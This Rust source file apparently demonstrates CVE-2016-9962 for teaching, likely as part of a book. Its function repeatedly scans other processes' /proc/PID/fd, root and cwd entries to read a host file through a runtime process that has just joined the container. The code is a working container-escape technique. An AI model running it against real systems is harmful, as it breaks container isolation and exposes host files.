//! CVE-2016-9962: a process of the runner's that comes into the container and is not the container's yet.

use std::fs;
use std::io::ErrorKind;
use std::time::{Duration, Instant};

use nix::unistd::getpid;

use crate::told;

// ANCHOR: attack
/// Whoever may trace a process may use its files: `/proc/PID/fd` and `/proc/PID/root` are open doors then. A runner
/// that joins a namespace has the host's descriptors until it becomes the container's program. We look at every
/// process, again and again.
pub fn look(words: &[String]) -> Result<String, String> {
    let file = words.first().ok_or("FILE is needed")?;
    let seconds: u64 = words.get(1).map_or(Ok(3), |word| told("read SECONDS", word.parse()))?;
    println!("ready");
    let (start, mut refused, mut tried) = (Instant::now(), 0, 0);
    while start.elapsed() < Duration::from_secs(seconds) {
        for pid in others()? {
            let open = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
            let descriptors = open.map(|entry| entry.path().display().to_string());
            for door in descriptors.chain([format!("/proc/{pid}/root"), format!("/proc/{pid}/cwd")]) {
                tried += 1;
                match fs::read_to_string(format!("{door}{file}")) {
                    Ok(text) => return Ok(format!("through {door} of another process: {}", text.trim())),
                    Err(error) => refused += usize::from(error.kind() == ErrorKind::PermissionDenied),
                }
            }
        }
    }
    Err(format!("no process opened a door: of {tried} tries, the kernel refused {refused}"))
}

/// Every process that can be seen, but ourselves.
fn others() -> Result<impl Iterator<Item = i32>, String> {
    let me = getpid().as_raw();
    let entries = told("read /proc", fs::read_dir("/proc"))?.flatten();
    Ok(entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).filter(move |pid| *pid != me))
}
// ANCHOR_END: attack
